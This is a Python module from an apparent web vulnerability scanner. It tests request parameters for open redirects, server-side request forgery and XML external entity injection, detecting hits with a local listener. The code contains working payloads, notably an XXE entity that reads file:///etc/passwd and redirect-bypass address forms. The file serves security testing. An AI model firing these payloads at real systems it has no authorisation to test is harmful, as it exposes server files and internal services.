"""Puts a foreign address where a request holds an address, and watches who goes there: the visitor's browser (an open
redirect), or the server itself (server-side request forgery, also by way of XML).

The foreign site is example.com, which is nobody's; the browser never opens it. What the server is told to fetch is a
listener of our own on this machine, so that part is done only for sites on this machine.
"""

import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, replace
from urllib.parse import urlsplit

from worker.detectors.addresses import is_local
from worker.explorer.experiments.answers import AskedEnough, Asking, as_it_is, sent
from worker.explorer.experiments.coming_back import stand_where_sent
from worker.explorer.experiments.destinations import SAFE_HOST, destinations_of
from worker.explorer.experiments.entries import Entry, Sending, entries_of, fresh_token, sendings_of, shape_of
from worker.explorer.experiments.evaluation_probes import USERS
from worker.explorer.experiments.hints import SendsAway, hint_of
from worker.explorer.experiments.listener import Listener, listening
from worker.explorer.experiments.planning import Plan, Proposal, Scene
from worker.explorer.graph import Deed
from worker.explorer.walk import Request, Walk
from worker.observation.experiments.attacks import Injection, Redirection

PLAN = Plan("foreign_address", share=1.5, most=15, seconds=2.0)

PROBING = "foreign addresses in parameters"
_NAMES = re.compile(
    r"^(?:.*[-_.])?(?:url|uri|u|href|link|redirect(?:[-_]?(?:to|url|uri))?|redir|return(?:[-_]?(?:to|url|path))?|next|"
    r"goto|go|to|dest(?:ination)?|target|continue|forward|callback|back|ref(?:errer)?|from|site|domain|host|page|path|"
    r"file|include|src|source|image|img|feed|proxy|fetch|load|webhook|avatar|xml|import|out|exit|view)$|(?:url|uri)$",
    re.IGNORECASE,
)
# What says where one is to be led.
_LEADS = re.compile(r"next|redir|return|goto|continue|forward|dest|callback|target|url", re.IGNORECASE)
_ADDRESS = re.compile(r"^(?:https?:)?//|^/(?!$)|^[\w-]+(?:\.[\w-]+)+(?:/|$)|^[\w/-]+\.(?:html?|php|aspx?)$")


@dataclass(frozen=True, slots=True)
class SendForeignAddress:
    """Whether an address in a request is followed by browser or server; the items are its entries' keys."""

    way: tuple[Deed, ...]
    sending: Sending
    items: frozenset[str]

    @property
    def words(self) -> tuple[str, ...]:
        """The request that is sent again."""
        return (f"Send {self.sending.method} {self.sending.url} with the address that is shown below",)

    def with_items(self, items: frozenset[str]) -> Request:
        """The same request with these entries only."""
        return replace(self, items=items)

    async def perform(self, walk: Walk) -> None:
        """Try each entry and conclude what was found."""
        await stand_where_sent(walk, self.way, self.sending)
        asking = Asking(walk.visitor, as_it_is)
        try:
            async with listening() as listener:
                for entry in entries_of(self.sending):
                    if entry.key in self.items:
                        async for found in self._try(asking, entry, listener):
                            await walk.conclude(self.with_items(frozenset((entry.key,))), found)
        except AskedEnough:
            return

    async def _try(self, asking: Asking, entry: Entry, listener: Listener) -> AsyncIterator[Injection | Redirection]:
        if redirection := await self._sent_away(asking, entry):
            yield redirection
            return
        if is_local(self.sending.url) and (fetched := await self._fetched(asking, entry, listener)):
            yield fetched
        if resolved := await self._resolved(asking, entry, listener):
            yield resolved

    async def _sent_away(self, asking: Asking, entry: Entry) -> Redirection | None:
        token = fresh_token()
        own_host = urlsplit(self.sending.url).netloc
        for value in (
            f"https://{SAFE_HOST}/{token}",
            f"//{SAFE_HOST}/{token}",
            f"https://{own_host}@{SAFE_HOST}/{token}",
        ):
            sending = entry.holding(self.sending, value)
            answer = await asking.send(sending)
            for by, target in destinations_of(answer):
                if urlsplit(target).hostname == SAFE_HOST and token in target:
                    record = sent(sending, answer, target if by != "header" else "")
                    return Redirection(entry.place, entry.name, self.sending.url, value, by, record)
        return None

    async def _fetched(self, asking: Asking, entry: Entry, listener: Listener) -> Injection | None:
        token = fresh_token()
        value = listener.address(token)
        sending = entry.holding(self.sending, value)
        answer = await asking.send(sending)
        if not await listener.heard(token):
            return None
        proof = "A listener of the test's own was asked by the server for the very address."
        return Injection("address", entry.place, entry.name, self.sending.url, value, proof, sent(sending, answer))

    async def _resolved(self, asking: Asking, entry: Entry, listener: Listener) -> Injection | None:
        if not (entry.value.lstrip().startswith("<") or "xml" in entry.name.lower()):
            return None
        token = fresh_token()
        own = (listener.address(token),) if is_local(self.sending.url) else ()
        for foreign in ("file:///etc/passwd", *own):
            value = f'<!DOCTYPE note [<!ENTITY probe SYSTEM "{foreign}">]><note>&probe;</note>'
            sending = entry.holding(self.sending, value)
            answer = await asking.send(sending)
            if users := USERS.search(answer.body):
                proof = "The system's list of users, which it named as an entity, came back."
                record = sent(sending, answer, users.group())
                return Injection("xml", entry.place, entry.name, self.sending.url, value, proof, record)
            if foreign in own and await listener.heard(token):
                proof = "A listener of the test's own was asked by the server for the entity's address."
                return Injection("xml", entry.place, entry.name, self.sending.url, value, proof, sent(sending, answer))
        return await self._expanded(asking, entry)

    async def _expanded(self, asking: Asking, entry: Entry) -> Injection | None:
        """Entities within the document are resolved: those without may be, too."""
        one, other = fresh_token(), fresh_token()
        value = f'<!DOCTYPE note [<!ENTITY one "{one}"><!ENTITY two "{other}">]><note>&one;&two;</note>'
        sending = entry.holding(self.sending, value)
        answer = await asking.send(sending)
        if one + other not in answer.body:
            return None
        proof = "Entities that it defined itself were put in; whether foreign ones are could not be seen."
        record = sent(sending, answer, one + other)
        return Injection("xml", entry.place, entry.name, self.sending.url, value, proof, record, certain=False)


def propose(scene: Scene) -> Iterator[Proposal]:
    """Every kind of request with a value that is an address, or is called like one."""
    for sending in sendings_of(scene):
        keys = frozenset(entry.key for entry in entries_of(sending) if _may_be_address(entry))
        if keys:
            request = SendForeignAddress(scene.way, sending, keys)
            leads = any(_LEADS.search(entry.name) for entry in entries_of(sending))
            hint = hint_of(SendsAway, sending, keys)
            yield Proposal(request, shape_of(sending), (sending.url,), PROBING, telling=leads, hint=hint)


def _may_be_address(entry: Entry) -> bool:
    name = entry.name.rpartition(".")[2]
    return bool(_NAMES.search(name) or _ADDRESS.search(entry.value) or entry.value.lstrip().startswith("<"))
